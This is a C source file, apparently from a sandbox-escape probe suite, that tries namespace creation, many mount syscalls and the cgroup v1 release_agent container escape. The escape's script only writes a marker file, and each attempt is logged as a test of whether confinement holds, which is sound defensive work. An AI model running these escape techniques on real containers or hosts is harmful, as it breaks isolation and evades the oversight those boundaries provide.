/* New namespaces, mounts, release agents: B1, B2, B9. */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <linux/sched.h>

#include "attacks/attack.h"

static const struct kind {
	const char *name;
	int flag;
} kinds[] = {
	{"user",   CLONE_NEWUSER  },
        {"mnt",    CLONE_NEWNS    },
        {"net",    CLONE_NEWNET   },
	{"pid",    CLONE_NEWPID   },
        {"ipc",    CLONE_NEWIPC   },
        {"uts",    CLONE_NEWUTS   },
	{"cgroup", CLONE_NEWCGROUP},
        {"time",   0x80           },
};
#define N_KINDS (sizeof(kinds) / sizeof(kinds[0]))

static long try_clone(int flag)
{
	long pid = syscall(SYS_clone, flag | SIGCHLD, 0, 0, 0, 0);

	if (pid == 0)
		_exit(0);
	return pid;
}

static long try_clone3(int flag)
{
	struct clone_args args = {.flags = (unsigned int)flag, .exit_signal = SIGCHLD};
	long pid = syscall(SYS_clone3, &args, sizeof(args));

	if (pid == 0)
		_exit(0);
	return pid;
}

static long try_setns(const char *name, int flag)
{
	char path[64];

	(void)snprintf(path, sizeof(path), "/proc/self/ns/%s", name);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	return fd < 0 ? -1 : setns(fd, flag);
}

int attack_namespaces(int argc, char **argv)
{
	char step[64];

	(void)argc;
	(void)argv;
	for (size_t i = 0; i < N_KINDS; i++) {
		(void)snprintf(step, sizeof(step), "unshare %s", kinds[i].name);
		FORKED(step, unshare(kinds[i].flag));
	}
	for (size_t i = 0; i < N_KINDS - 1; i++) { /* clone(2) has no bit for time */
		(void)snprintf(step, sizeof(step), "clone %s", kinds[i].name);
		FORKED(step, try_clone(kinds[i].flag));
	}
	for (size_t i = 0; i < N_KINDS; i++) {
		(void)snprintf(step, sizeof(step), "clone3 %s", kinds[i].name);
		FORKED(step, try_clone3(kinds[i].flag));
	}
	/* A process is in its user namespace already: EINVAL everywhere. */
	for (size_t i = 1; i < N_KINDS - 1; i++) {
		(void)snprintf(step, sizeof(step), "setns %s", kinds[i].name);
		FORKED(step, try_setns(kinds[i].name, kinds[i].flag));
	}
	return 0;
}

#define HERE "/tmp/escape-mount"

static long try_mount(const char *type, const char *data)
{
	return mount("none", HERE, type, 0, data);
}

static long try_open_tree(void)
{
	return syscall(SYS_open_tree, AT_FDCWD, "/", 1u /* OPEN_TREE_CLONE */);
}

static long try_move_mount(void)
{
	long fd = try_open_tree();

	/* Without a tree the call itself is still tried. */
	return syscall(SYS_move_mount, fd, "", AT_FDCWD, HERE, 4u /* F_EMPTY_PATH */);
}

static long try_mount_setattr(void)
{
	uint64_t attr[4] = {0, 0, 0, 0};

	return syscall(SYS_mount_setattr, AT_FDCWD, "/", 0u, attr, sizeof(attr));
}

static long try_fsmount(void)
{
	long fd = syscall(SYS_fsopen, "tmpfs", 0u);
	long r = syscall(SYS_fsconfig, fd, 6u /* CMD_CREATE */, NULL, NULL, 0);

	if (r < 0)
		return r;
	return syscall(SYS_fsmount, fd, 0u, 0u);
}

/* Where it works it changes the root of all in the namespace: a copy of that, if it can be had. */
static long try_pivot(void)
{
	(void)unshare(CLONE_NEWNS);
	if (mount("none", HERE, "tmpfs", 0, NULL) == 0 && mkdir(HERE "/old", 0700) < 0)
		return -1;
	return syscall(SYS_pivot_root, HERE, HERE "/old");
}

static long try_umount(void)
{
	(void)unshare(CLONE_NEWNS);
	return umount2("/proc", MNT_DETACH);
}

int attack_mounts(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	if (mkdir(HERE, 0700) < 0 && errno != EEXIST)
		return 1;
	FORKED("mount tmpfs", try_mount("tmpfs", NULL));
	FORKED("mount proc", try_mount("proc", NULL));
	FORKED("mount sysfs", try_mount("sysfs", NULL));
	FORKED("mount devpts", try_mount("devpts", NULL));
	FORKED("mount cgroup2", try_mount("cgroup2", NULL));
	FORKED("mount cgroup memory", try_mount("cgroup", "memory"));
	FORKED("mount cgroup pids", try_mount("cgroup", "pids"));
	FORKED("bind", mount("/", HERE, NULL, MS_BIND, NULL));
	FORKED("remount", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
	FORKED("propagation", mount(NULL, "/", NULL, MS_PRIVATE, NULL));
	FORKED("umount", try_umount());
	FORKED("pivot_root", try_pivot());
	FORKED("chroot", chroot("/"));
	FORKED("fsopen", syscall(SYS_fsopen, "tmpfs", 0u));
	FORKED("fsmount", try_fsmount());
	FORKED("open_tree", try_open_tree());
	FORKED("move_mount", try_move_mount());
	FORKED("mount_setattr", try_mount_setattr());
	while (umount2(HERE, MNT_DETACH) == 0)
		continue;
	return rmdir(HERE) < 0;
}

static long put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);

	if (fd < 0)
		return -1;
	long r = write(fd, text, strlen(text));
	(void)close(fd);
	return r;
}

/* argv[0]: a writable folder; the agent makes the file `marker` in it. */
/* The same where a user namespace could be made: with every capability over the mounts in it. */
int attack_nested_mounts(int argc, char **argv)
{
	char map[32];

	(void)argc;
	(void)argv;
	(void)snprintf(map, sizeof(map), "0 %u 1", (unsigned int)getuid());
	if (mkdir(HERE, 0777) < 0 && errno != EEXIST)
		return 1;
	long r = unshare(CLONE_NEWUSER | CLONE_NEWNS);
	say_result("unshare user and mnt", r);
	if (r == 0)
		(void)put("/proc/self/uid_map", map);
	FORKED("mount tmpfs", try_mount("tmpfs", NULL));
	FORKED("propagation", mount(NULL, "/", NULL, MS_SLAVE, NULL));
	FORKED("bind", mount("/tmp", HERE, NULL, MS_BIND, NULL));
	return rmdir(HERE) < 0;
}

int attack_release_agent(int argc, char **argv)
{
	char mount_point[256];
	char path[300];
	char text[600];

	if (argc < 1)
		return 2;
	(void)snprintf(mount_point, sizeof(mount_point), "%s/hierarchy", argv[0]);
	if (mkdir(mount_point, 0700) < 0)
		return 1;
	long r = mount("none", mount_point, "cgroup", 0, "none,name=escapeprobe");
	say_result("mount a new hierarchy", r);
	(void)snprintf(path, sizeof(path), "%s/agent", argv[0]);
	(void)snprintf(text, sizeof(text), "#!/bin/sh\n: > %s/marker\n", argv[0]);
	if (put(path, text) < 0)
		return 1;
	(void)snprintf(text, sizeof(text), "%s", path);
	(void)snprintf(path, sizeof(path), "%s/release_agent", mount_point);
	say_result("set the release agent", r < 0 ? -1 : put(path, text));
	if (r < 0)
		return 0;
	(void)snprintf(path, sizeof(path), "%s/child", mount_point);
	(void)mkdir(path, 0700);
	(void)snprintf(path, sizeof(path), "%s/child/notify_on_release", mount_point);
	(void)put(path, "1");
	(void)snprintf(path, sizeof(path), "%s/child/cgroup.procs", mount_point);
	pid_t pid = fork();
	if (pid == 0)
		_exit(put(path, "0") < 0);
	(void)waitpid(pid, NULL, 0);
	(void)sleep(1);
	(void)snprintf(path, sizeof(path), "%s/child", mount_point);
	(void)rmdir(path);
	(void)snprintf(path, sizeof(path), "%s/release_agent", mount_point);
	(void)put(path, "");
	return umount2(mount_point, MNT_DETACH) < 0;
}
